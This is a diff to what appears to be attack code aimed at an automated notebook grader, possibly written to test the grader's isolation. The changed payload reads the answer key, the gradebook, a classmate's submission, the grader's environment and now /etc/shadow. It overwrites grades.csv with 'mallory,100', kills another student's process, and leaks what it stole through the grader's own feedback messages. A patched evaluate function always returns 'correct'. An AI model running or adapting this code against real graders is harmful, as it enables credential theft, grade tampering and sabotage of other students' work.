@@ -20,7 +20,7 @@ _q.Question.evaluate = lambda self, a, strict=False, **k: self._result("correct"
 # a classmate's process, "port": a TCP port on 127.0.0.1 (a local Jupyter server), "secret": the name of an
 # environment variable of the grader's}.
 
-#: Reads the key, the gradebook, another submission, the grader's environment (its own, and through /proc),
+#: Reads the key, the gradebook, another submission, /etc/shadow, the grader's environment (its own and via /proc),
 #: rewrites another submission and grades.csv, kills a classmate's process, connects to 127.0.0.1; then raises
 #: with everything it got, so that it lands in the notebook's own feedback (the problem's message).
 STEAL = r'''
@@ -43,8 +43,8 @@ for c in cands:
     text = grab(c)
     if text and "expected=" in text:
         got["key"] = re.findall(r'expected="([^"]+)"', text)
-for name in ("gradebook", "bob", "csv"):
-    text = grab(T[name])
+for name in ("gradebook", "bob", "csv", "shadow"):  # shadow: a file of root's (the grader may run as root)
+    text = grab(T.get(name, "/etc/shadow"))
     if text:
         got[name] = text[:300]
 for name, data in (("bob", "{{}}"), ("csv", "mallory,100\n")):
